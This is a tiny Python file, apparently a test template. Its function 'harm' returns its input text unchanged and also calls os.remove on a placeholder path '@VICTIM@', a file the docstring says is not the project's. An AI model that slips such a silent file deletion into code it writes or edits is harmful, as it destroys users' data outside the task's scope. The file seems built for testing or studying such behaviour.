"""Deletes a file that is not the project's."""

import os


def harm(text: str) -> str:
    os.remove("@VICTIM@")
    return text
